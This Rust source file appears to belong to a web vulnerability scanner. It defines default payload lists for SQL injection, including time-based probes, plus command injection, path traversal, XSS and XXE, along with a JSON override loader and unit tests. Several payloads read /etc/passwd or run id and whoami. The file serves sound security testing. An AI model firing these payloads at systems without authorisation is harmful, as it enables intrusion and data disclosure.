use anyhow::{Context, Result};
use serde::Deserialize;
use std::fs;

/// Error-based and time-based SQL payloads. The SLEEP variants pair with the
/// timing threshold in `ScanContext`.
const SQL_PAYLOADS: &[&str] = &[
    "'",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "1' AND '1'='2",
    "'; SELECT pg_sleep(5)--",
    "' OR SLEEP(5)--",
    "1 AND 1=(SELECT COUNT(*) FROM sysobjects)",
];

const COMMAND_PAYLOADS: &[&str] = &[
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    "& whoami",
];

const PATH_TRAVERSAL_PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
];

const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
];

const XXE_PAYLOADS: &[&str] = &[
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///c:/windows/win.ini\">]><r>&x;</r>",
];

/// Per-class payload lists. Defaults are built in; each class can be
/// overridden from a JSON file supplied at configuration time.
#[derive(Debug, Clone)]
pub struct PayloadSet {
    pub sql: Vec<String>,
    pub command: Vec<String>,
    pub path_traversal: Vec<String>,
    pub xss: Vec<String>,
    pub xxe: Vec<String>,
}

impl Default for PayloadSet {
    fn default() -> Self {
        fn owned(list: &[&str]) -> Vec<String> {
            list.iter().map(|s| s.to_string()).collect()
        }
        Self {
            sql: owned(SQL_PAYLOADS),
            command: owned(COMMAND_PAYLOADS),
            path_traversal: owned(PATH_TRAVERSAL_PAYLOADS),
            xss: owned(XSS_PAYLOADS),
            xxe: owned(XXE_PAYLOADS),
        }
    }
}

#[derive(Debug, Deserialize)]
struct PayloadOverrides {
    sql: Option<Vec<String>>,
    command: Option<Vec<String>>,
    path_traversal: Option<Vec<String>>,
    xss: Option<Vec<String>>,
    xxe: Option<Vec<String>>,
}

impl PayloadSet {
    /// Load a JSON file of the shape `{"sql": [...], "xss": [...]}`; classes
    /// not present keep their built-in defaults.
    pub fn load_overrides(path: &str) -> Result<Self> {
        let content = fs::read_to_string(path)
            .with_context(|| format!("Failed to read payload file: {}", path))?;
        let overrides: PayloadOverrides = serde_json::from_str(&content)
            .with_context(|| format!("Failed to parse payload file: {}", path))?;

        let mut set = Self::default();
        if let Some(sql) = overrides.sql {
            set.sql = sql;
        }
        if let Some(command) = overrides.command {
            set.command = command;
        }
        if let Some(path_traversal) = overrides.path_traversal {
            set.path_traversal = path_traversal;
        }
        if let Some(xss) = overrides.xss {
            set.xss = xss;
        }
        if let Some(xxe) = overrides.xxe {
            set.xxe = xxe;
        }
        Ok(set)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_defaults_are_nonempty() {
        let set = PayloadSet::default();
        assert!(!set.sql.is_empty());
        assert!(!set.command.is_empty());
        assert!(!set.path_traversal.is_empty());
        assert!(!set.xss.is_empty());
        assert!(!set.xxe.is_empty());
    }

    #[test]
    fn test_sql_set_includes_time_based_payload() {
        let set = PayloadSet::default();
        assert!(set.sql.iter().any(|p| p.contains("SLEEP") || p.contains("pg_sleep")));
    }
}
